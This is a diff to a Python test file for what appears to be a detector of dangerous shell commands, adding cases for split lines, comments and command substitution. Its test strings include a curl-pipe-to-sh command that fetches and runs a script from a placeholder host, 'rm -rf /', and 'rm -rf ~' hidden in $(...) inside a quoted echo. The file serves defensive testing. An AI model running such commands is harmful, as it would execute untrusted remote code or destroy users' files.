@@ -137,6 +137,9 @@ def test_lines_that_belong_together_are_read_together():
     assert (2, "download-and-run") in dangers("true", "curl https://x.example/i.sh |", "  sh")
     assert (1, "download-and-run") in dangers("curl https://x.example/i.sh", "| sh")
     assert (1, "remove") in dangers("rm \\", "-rf \\", "/")
+    assert (1, "remove") in dangers("r\\", "m -rf /")
+    assert (1, "download-and-run") in dangers("curl https://x.example/i.sh | # get it", "  sh")
+    assert (1, "remove") in dangers('echo " # $(rm -rf ~) |', 'x"')
 
 
 def test_comments_are_left_out_and_what_only_looks_like_one_is_not():
